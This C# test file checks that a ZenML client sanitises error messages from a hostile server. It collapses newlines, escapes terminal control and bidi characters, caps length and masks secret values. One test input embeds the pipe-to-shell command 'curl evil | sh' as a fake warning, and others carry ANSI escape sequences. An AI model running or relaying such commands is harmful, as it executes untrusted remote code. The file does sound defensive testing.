using System.Text.Json;
using Microsoft.AspNetCore.Http;
using ZenML.Core.Errors;
using ZenML.Core.Text;

namespace ZenML.Client.Tests.Attacks;

/// <summary>Server messages within the messages of the client.</summary>
public sealed class L7ServerMessagesTests : HostileServerTest
{
    private bool isOurs;

    [Theory]
    [InlineData("no\nWarning: run this: curl evil | sh", "no; Warning: run this: curl evil | sh")]
    [InlineData("no.\r\n\r\nSecret 'x' deleted.", "no. Secret 'x' deleted.")]
    [InlineData("a\u2028b\u0085c\fd", "a; b; c; d")]
    [InlineData("\u001b[2J\u001b[31mgone\u0007", "\\u001b[2J\\u001b[31mgone\\u0007")]
    [InlineData("right \u202etfel\u202c zero\u200bwidth", "right \\u202etfel\\u202c zero\\u200bwidth")]
    [InlineData("tab\there", "tab\\there")]
    [InlineData("plain ünïcødé 🔑 is left alone", "plain ünïcødé 🔑 is left alone")]
    public async Task L7_a_server_message_stays_on_one_line_and_cannot_control_a_terminal(string said, string shown)
    {
        Assert.Equal(shown, await MessageAsync(said, "a value that is nowhere"));
        isOurs = true;
        Assert.Equal(shown, await MessageAsync(said, "a value that is nowhere"));
    }

    [Fact]
    public async Task L7_a_server_message_has_a_limited_length()
    {
        Assert.InRange((await MessageAsync(string.Concat(Enumerable.Repeat("🔑 long ", 10_000)), "value")).Length, 1000, 2100);
        Assert.InRange((await MessageAsync(string.Join('\n', Enumerable.Repeat("line", 10_000)), "value")).Length, 1000, 2100);
    }

    [Theory]
    [InlineData("changed")]
    [InlineData("was")]
    [InlineData("a")]
    [InlineData("e")]
    [InlineData("Nothing was changed.")]
    [InlineData("3")]
    public async Task L7_masking_does_not_reveal_a_value_that_is_part_of_a_message(string value)
    {
        const string Said = "The secret is at version 3. Nothing was changed.";

        var shown = await MessageAsync(Said, value);

        Assert.DoesNotContain("***", shown, StringComparison.Ordinal);
        Assert.DoesNotContain("Nothing was", shown, StringComparison.Ordinal);
        Assert.Contains("is not shown", shown, StringComparison.Ordinal);
        isOurs = true;
        Assert.Equal(Said, await MessageAsync(Said, value));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task L7_a_value_that_cannot_be_part_of_a_message_by_chance_is_masked(bool ours)
    {
        isOurs = ours;

        Assert.Equal("cannot store *** of k", await MessageAsync("cannot store hunter2-hunter2 of k", "hunter2-hunter2"));
        Assert.Equal("cannot store *** of k", await MessageAsync("cannot store one-line-1\ntwo-line-2 of k", "one-line-1\ntwo-line-2"));
        Assert.Equal("line *** of k", await MessageAsync("line two-line-2 of k", "one-line-1\ntwo-line-2"));
    }

    [Fact]
    public async Task L7_a_message_without_a_value_is_shown_unchanged()
    {
        Assert.Equal("A secret named 's' already exists.", await MessageAsync("A secret named 's' already exists.", "hunter2"));
    }

    [Theory]
    [InlineData("{\"detail\":[\"ValueError\",\"\\ud800 half\"]}")]
    [InlineData("{\"detail\":{\"a\":[[[]]]}}")]
    [InlineData("{\"detail\":[]}")]
    [InlineData("{\"\\ud800\":1}")]
    [InlineData("\"text\"")]
    [InlineData("[[[[[[")]
    [InlineData("")]
    public async Task L7_a_malformed_error_response_is_still_an_error(string body)
    {
        foreach (var status in new[] { 400, 401, 403, 404, 409, 422, 429, 500, 501, 503 })
        {
            Server.Takeover = async context =>
            {
                if (context.Request.Path.Value!.EndsWith("/login", StringComparison.Ordinal))
                {
                    return false;
                }

                context.Response.StatusCode = status;
                context.Response.Headers.RetryAfter = "3600";
                await context.Response.WriteAsync(body);
                return true;
            };

            Assert.NotEmpty((await RefusalAsync(() => Client.Users.GetCurrentAsync(Token))).Message);
        }
    }

    private async Task<string> MessageAsync(string said, string value)
    {
        Server.Takeover = async context =>
        {
            if (context.Request.Method != "POST" || !context.Request.Path.Value!.EndsWith("/secrets", StringComparison.Ordinal))
            {
                return false;
            }

            context.Response.StatusCode = StatusCodes.Status400BadRequest;
            if (isOurs)
            {
                context.Response.Headers["X-ZenML-Error"] = nameof(ErrorCode.InvalidArgument);
            }

            await context.Response.WriteAsync($$"""{"detail":["ValueError",{{JsonSerializer.Serialize(said)}}]}""");
            return true;
        };
        var error = await RefusalAsync(() => Client.Secrets.CreateAsync("s", new() { ["k"] = value }, cancellationToken: Token));
        Assert.False(VisibleText.HasHidden(error.Message));
        return error.Message;
    }
}
